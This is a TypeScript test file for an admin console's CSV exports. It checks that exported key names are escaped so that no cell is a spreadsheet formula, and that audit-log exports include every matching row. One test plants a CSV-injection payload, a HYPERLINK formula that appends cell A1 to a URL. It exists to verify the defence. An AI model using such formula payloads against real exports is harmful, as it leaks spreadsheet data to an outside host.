import { text } from 'node:stream/consumers';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { readCsv } from '../../src/cli/csv.ts';
import { type ConsoleUnderTest, startConsole } from './support/console.ts';

/**
 * The attack (CSV injection): consumers choose the names of keys, so when an operator opens the export in a
 * spreadsheet, no cell may be a formula.
 */
let console: ConsoleUnderTest;

beforeAll(async () => {
  console = await startConsole();
});

afterAll(() => console.stop());

test('the CSV export has all matching keys, and no cell is a formula', async () => {
  const name = '=HYPERLINK("http://127.0.0.1/?"&A1, "open") "quoted", and a comma';
  for (let copy = 0; copy < 3; copy++) {
    const body = JSON.stringify({ name, owner: '@acme', plan: 'free' });
    await console.gateway.admin('/v1/keys', { method: 'POST', body });
  }
  const { page } = await console.open({ at: '/keys?owner=%40acme' });
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export CSV' }).click();
  const { records, errors } = readCsv(await text(await (await download).createReadStream()));
  expect(errors).toEqual([]);
  expect(records.slice(1).map(({ cells }) => cells.slice(1, 3))).toEqual(
    Array.from({ length: 3 }, () => [`'${name}`, "'@acme"]),
  );
});

test('the CSV export of the audit log has all matching changes, not only those on the screen', async () => {
  const keys = Array.from({ length: 1005 }, (_, index) => ({ name: `n${index}`, owner: 'many', plan: 'free' }));
  for (const lot of [keys.slice(0, 1000), keys.slice(1000)]) {
    const response = await console.gateway.admin('/v1/keys/import', {
      method: 'POST',
      body: JSON.stringify({ keys: lot }),
    });
    // Read the response, because an unread response would keep its connection.
    await response.text();
  }
  const { page } = await console.open({ at: '/audit?action=key.create&actor=admin' });
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export CSV' }).click();
  const { records, errors } = readCsv(await text(await (await download).createReadStream()));
  expect(errors).toEqual([]);
  // The number includes the keys of the previous test and the header.
  expect(records).toHaveLength(3 + 1005 + 1);
  expect(new Set(records.slice(1).map(({ cells }) => cells[3]))).toEqual(new Set(['key.create']));
});
